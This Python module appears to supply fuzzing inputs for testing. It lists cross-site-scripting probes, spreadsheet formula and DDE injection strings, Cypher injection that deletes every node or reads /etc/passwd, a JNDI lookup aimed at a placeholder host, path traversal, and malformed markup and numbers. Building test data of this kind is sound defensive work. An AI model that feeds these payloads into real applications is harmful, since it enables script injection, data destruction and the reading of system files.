"""What hostile input is made of: markup that would run, formulas, Cypher, odd characters, odd numbers."""

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>", '"><script>alert(5)</script>', "'><img src=x onerror=alert(6)>", "javascript:alert(7)",
    "<iframe src=javascript:alert(8)>", "<body onload=alert(9)>", "<details open ontoggle=alert(10)>",
    "<input autofocus onfocus=alert(11)>", "<a href=javascript:alert(12)>x</a>", "{{constructor.constructor('alert(13)')()}}",
    "${alert(14)}", "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(15) src>\">",
    "--><script>alert(16)</script>", "]]><script>alert(17)</script>", "<!--<script>alert(18)//-->", "<style>@import'javascript:alert(19)'</style>",
    "<object data=javascript:alert(20)>", "<embed src=javascript:alert(21)>", "<form action=javascript:alert(22)><button>x",
    "<video><source onerror=alert(23)>", "<marquee onstart=alert(24)>", "<link rel=stylesheet href=javascript:alert(25)>",
    "<base href=javascript:alert(26)//>", "<meta http-equiv=refresh content=0;url=javascript:alert(27)>",
    "\\u003cscript\\u003ealert(28)\\u003c/script\\u003e", "&lt;script&gt;alert(29)&lt;/script&gt;", "&#60;script&#62;alert(30)",
    "<scr\0ipt>alert(31)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<img src=\"x\" onerror=\"alert&#40;33&#41;\">",
    "' onmouseover='alert(34)", '" onfocus="alert(35)" autofocus="', "`-alert(36)-`", "\u2028alert(37)\u2029", "';alert(38);//",
    '";alert(39);//', "</textarea><script>alert(40)</script>", "</title><script>alert(41)</script>", "</style><script>alert(42)</script>",
    "<svg><script>alert(43)</script></svg>", "<svg><animate onbegin=alert(44) attributeName=x>", "<template><script>alert(45)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(46)>\">", "data:text/html,<script>alert(47)</script>",
    "__proto__", "constructor", "<%= 7*7 %>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"http://x.example\",\"y\")",
    "=IMPORTXML(\"http://x.example\",\"//a\")", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "\uff0d1", "\u00a0=1+1", "\ufeff=1+1",
    "|calc", "%0A=1+1", "=DDE(\"cmd\";\"/c calc\")",
)  # fmt: skip
CYPHER = (
    "`", "``", "'", '"', "\\", "\\'", "'}) DETACH DELETE n //", "\"}) DETACH DELETE n //", "`) DETACH DELETE (n) //",
    "' OR 1=1 //", "'; MATCH (n) DETACH DELETE n; //", "\\u0027}) DETACH DELETE n //", "\\u0060", "/*", "*/", "// ", "$rows", "$id", "{id: 1}",
    "}) SET n.name = 'x' WITH n MATCH (m) DELETE m //", "' CALL db.labels() YIELD label RETURN label //", "LOAD CSV FROM 'file:///etc/passwd' AS x",
    "x`:Admin", ":Country", "name`=1,n.`x", "\u2019}) DELETE n", "\n}) DELETE n //", "\t", "\0", "' + apoc.cypher.run('x',{}) + '", "${jndi:ldap://x.example/a}",
)  # fmt: skip
ODD = (
    "\u202e", "\u200f", "\u2066", "\u200b", "\ufeff", "\0", "\x1b[31m", "\x1b]0;x\x07", "\x07", "\x7f", "\ud7ff", "\ue000", "\U0001f1f3\U0001f1f4", "e\u0301",
    "\u0130", "\u00df", "\ufb01", "\u2160", "\u0661\u0662", "\u00b2", "\u00bd", "%s%s%s%n", "%00", "{0}", "{}", "../../../etc/passwd", "..\\..\\x", "/dev/null",
    "C:\\x", "CON", "a" * 300, "\"", "''", "\"\"\"", ",,,,", ";;;;", "\t\t\t", "\r", "\n\n", "\r\n", "\x85", "\u2028", "NULL", "NaN", "nan", "None", "true",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "-1", "1e309", "-1e309", "1e-400", "NaN", "Infinity", "-inf", "9" * 40, "9" * 5000, "1" + "0" * 400 + ".5", "0x10", "1_000", "١٢٣", "²", "1,000", "1.5.2",
    "1e5", "2147483648", "9223372036854775808", "-9223372036854775809", "0000", "00000000", "99999999", "20189999", "9999-99-99", "0000-00-00", "0001-01-01", "9999-12-31",
    "2018-02-30", "31/31/2018", "1899", "2200", "10000", "-2018", "1E+99999999", "sNaN",
)  # fmt: skip
MARKUP = (
    "<", ">", "</", "<!--", "-->", "<![CDATA[", "]]>", "<?xml", "?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&a;", "&#0;", "&#x110000;", "&amp", "<p>", "</p>",
    "<div>" * 50, "<b>" * 300, "<table><tr><td>", "<item>", "</item>", "<entry>", "%PDF-", "endobj", "xref", "trailer", "<<", ">>", "/Kids", "0 R", "stream\n",
    "WARC/1.0\r\n", "Content-Length: 99999999999\r\n", "Content-Length: -1\r\n", "Transfer-Encoding: chunked\r\n", "Content-Encoding: gzip\r\n", "HTTP/1.1 200 OK\r\n",
    "{", "}", "[", "]", "[" * 2000, "{\"a\":" * 500, "\"text\":", ":null", ":1e999", "\\ud800", "\\u0000", "PK\x03\x04", "PK\x01\x02", "PK\x05\x06", "\x1f\x8b\x08",
)  # fmt: skip
TOKENS = (*SCRIPTS[:12], *FORMULAS[:8], *CYPHER, *ODD, *NUMBERS, *MARKUP)
